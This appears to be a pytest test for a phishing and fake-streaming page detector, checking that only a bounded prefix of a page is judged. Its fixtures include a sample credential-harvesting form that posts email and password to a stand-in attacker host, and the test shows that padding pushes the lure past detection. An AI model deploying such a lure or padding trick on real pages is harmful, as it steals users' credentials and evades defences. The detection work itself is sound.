"""A hostile page may be huge: detection judges a bounded prefix and says so."""

from __future__ import annotations

import pytest

from pipelines import scoring
from pipelines.scoring import assess_page
from pipelines.watchlists import load_watchlists

FAKE = "<p>Watch Man of Steel (2013) full movie online free HD</p><a href='https://bit.ly/x'>▶ PLAY</a>"
LURE = (
    "<form action='https://collect.evil-gate.example/gate.php' method='post'>"
    "<input type='email'><input type='password'></form>"
)


def test_only_the_first_characters_are_judged(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(scoring, "MAX_PAGE_CHARS", 5_000)
    wl = load_watchlists()
    padding = "<p>" + "filler text " * 1_000 + "</p>"  # 12,000 characters
    page = f"<html><body>{FAKE}{padding}{LURE}</body></html>"
    result = assess_page(page, "https://x.tumblr.com/post/1", wl)
    assert (
        result.fake_stream and result.matched_title == "Man of Steel"
    )  # evidence before the cut counts
    assert not result.sso_lure  # the form after the cut is never looked at
    assert f"page of {len(page):,} characters: only the first 5,000 judged" in result.reasons
    small = assess_page(
        f"<html><body>{FAKE}{LURE}</body></html>", "https://x.tumblr.com/post/2", wl
    )
    assert small.sso_lure and not any("judged" in r for r in small.reasons)
